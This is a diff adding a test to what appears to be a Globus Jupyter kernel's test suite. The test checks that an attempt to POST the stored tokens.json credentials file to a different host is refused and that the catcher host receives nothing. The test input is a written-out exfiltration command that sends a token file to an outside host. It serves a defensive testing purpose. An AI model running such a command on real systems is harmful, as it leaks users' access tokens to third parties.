@@ -441,3 +441,18 @@ def test_logout_removes_every_token_even_those_another_session_stored(globus, tm
     # The next person logs in without being told to log out first.
     reply, _, _ = login_with_stdin(sim, kc, identity="bob@globusid.org")
     assert reply["status"] == "ok"
+
+
+def test_a_token_never_goes_to_another_host(globus, tmp_path):
+    sim, start = globus
+    km, kc = start()
+    login_with_stdin(sim, kc)
+    catcher = Sim()  # another origin: it records whatever reaches it
+    try:
+        tokens = tmp_path / ".globus" / "app" / "61338d24-54d5-408f-a10d-66c06b59f6d2" / "globus-kernel" / "tokens.json"
+        reply, _ = run_cell(kc, f"%globus call transfer POST {catcher.url('transfer')}collect --body-file {tokens}")
+        c = reply["content"]
+        assert c["ename"] == "UsageError" and "Refusing to send the transfer token" in c["evalue"]
+        assert catcher.http.get(catcher.admin + "requests").json()["requests"] == []
+    finally:
+        catcher.stop()
